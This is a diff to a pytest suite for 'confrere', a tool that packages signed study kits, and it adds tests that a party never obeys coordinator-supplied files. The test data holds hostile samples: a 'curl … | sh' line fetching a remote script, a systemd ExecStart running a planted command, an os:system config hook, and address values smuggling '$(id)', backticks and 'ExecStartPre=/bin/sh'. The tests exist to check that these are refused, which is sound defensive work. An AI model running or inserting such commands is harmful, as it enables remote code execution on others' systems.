@@ -88,14 +88,15 @@ def test_a_party_gets_what_it_needs_and_nothing_secret(work):
     kit = open_kit(work / "kits" / "main.kit", work / "main", _own(work))
     assert kit.participant == "main"
     assert set(kit.files) == {
-        "README.md",
+        "address",
         "ca.pem",
-        "confrere-main.service",
         "coordinator.pub",
-        "local.toml",
         "main.request",
         "study.toml",
     }
+    assert set(kit.pages) == {"README.md", "confrere-main.service", "local.toml"}
+    assert {p.name for p in (work / "main").iterdir()} >= {*kit.files, *kit.pages}
+    assert b"--coordinator 10.0.0.1:8443 " in kit.pages["confrere-main.service"]
     assert b"PRIVATE" not in b"".join(kit.files.values())
     study = read_study(work / "main" / "study.toml")
     assert [party.key is not None for party in study.parties] == [True] * 3
@@ -147,10 +148,10 @@ def test_another_fingerprint_writes_nothing(work):
     assert not (work / "main" / "study.toml").exists()
 
 
-@pytest.mark.parametrize("name", ["study.toml", "ca.pem", "local.toml", "coordinator.pub"])
+@pytest.mark.parametrize("name", ["study.toml", "ca.pem", "address", "coordinator.pub"])
 def test_a_changed_file_is_refused(work, name):
     files = _files(work / "kits" / "main.kit")
-    files[name] = files[name].replace(b"e", b"f", 1)
+    files[name] = files[name].replace(b"e" if b"e" in files[name] else b"0", b"f", 1)
     entries = [(tarfile.TarInfo(n), c) for n, c in files.items()]
     changed = _archive(work / "changed.kit", entries)
     with pytest.raises((SignatureError, InvalidParameter)):
@@ -326,9 +327,13 @@ def test_the_commands_from_keys_to_kits(tmp_path, monkeypatch):
 @pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="there is no systemd here")
 @pytest.mark.parametrize("name", ["main", "coordinator"])
 def test_units_are_what_systemd_expects(work, tmp_path, name):
-    files = _files(work / "kits" / f"{name}.kit")
     unit = tmp_path / f"confrere-{name}.service"
-    text = files[unit.name].decode().replace("/opt/confrere/bin/confrere", "/bin/true")
+    text = (
+        show_kit(work / "kits" / f"{name}.kit")
+        .pages[unit.name]
+        .decode()
+        .replace("/opt/confrere/bin/confrere", "/bin/true")
+    )
     unit.write_text(text)
     done = subprocess.run(
         ["systemd-analyze", "verify", str(unit)], capture_output=True, text=True, timeout=60
@@ -354,7 +359,9 @@ def test_a_small_archive_does_not_grow_in_memory(tmp_path):
 
 
 @pytest.mark.parametrize(
-    "name", ["main.key", "main.ledger", "main.csv", "grant.json", "node.key", "nodes/x.pem", "a.py"]
+    "name",
+    ["main.key", "main.ledger", "main.csv", "grant.json", "node.key", "nodes/x.pem", "a.py"]
+    + ["local.toml", "README.md", "confrere-main.service"],
 )
 def test_a_kit_writes_over_nothing_of_a_party_s_own(work, name):
     """Its coordinator, whose fingerprint is right, puts in a file that no kit has."""
@@ -374,3 +381,59 @@ def test_a_coordinators_kit_has_its_own_names_only(work):
         path = _write(work / "kits" / "other.kit", files | {name: b""}, key)
         with pytest.raises(SignatureError, match="is no kit"):
             show_kit(path)
+
+
+def test_a_local_file_of_the_coordinator_s_is_never_obeyed(work):
+    """It would name code to import, a scheduler that gets the rows, and caps as high as it likes.
+
+    The unit would be a command that the party's own system carries out.
+    """
+    real = show_kit(work / "kits" / "main.kit")
+    key = read_private_key(work / "coordinator.key")
+    mark = work / "obeyed"
+    classifier = f'name = "os:system"\nsettings = {{command = "touch {mark}"}}'
+    hostile = {
+        "local.toml": real.pages["local.toml"] + f"\n[classifier]\n{classifier}\n".encode(),
+        "confrere-main.service": f"[Service]\nExecStart=/bin/touch {mark}\n".encode(),
+        "README.md": b"curl https://example.org/new.sh | sh\n",
+    }
+    for name, content in hostile.items():
+        path = _write(work / "kits" / "main.kit", {**real.files, name: content}, key)
+        with pytest.raises(SignatureError, match="is no kit"):
+            open_kit(path, work / "main", _own(work))
+        assert not (work / "main" / name).exists()
+    opened = open_kit(
+        _write(work / "kits" / "main.kit", real.files, key), work / "main", _own(work)
+    )
+    assert {name: (work / "main" / name).read_bytes() for name in hostile} == real.pages
+    assert opened.pages == real.pages
+    local = read_local(work / "main" / "local.toml")
+    assert (local.classifier, local.engine, local.data) == (None, None, None)
+    assert not mark.exists()
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        b"10.0.0.1:8443 --local other.toml\n",
+        b"10.0.0.1:8443\nExecStartPre=/bin/sh\n",
+        b"-c:8443\n",
+        b"$(id):8443\n",
+        b"`id`:8443\n",
+        b"h\xc3\xb6st:8443\n",
+        b"10.0.0.1\n",
+        b"10.0.0.1:8443",
+        b"",
+    ],
+)
+def test_an_address_is_one_word_of_a_command(work, address):
+    files = dict(show_kit(work / "kits" / "main.kit").files)
+    key = read_private_key(work / "coordinator.key")
+    path = _write(work / "kits" / "main.kit", files | {"address": address}, key)
+    with pytest.raises(SignatureError, match="where the coordinator is"):
+        open_kit(path, work / "main", _own(work))
+    assert not (work / "main" / "README.md").exists()
+    content = (work / "study" / "study.toml").read_bytes()
+    requests = [read_request(work / party / f"{party}.request") for party in PARTIES]
+    with pytest.raises(InvalidParameter, match="host must be"):
+        make_kits(content, requests, key, work / "new", host="a b", port=8443)
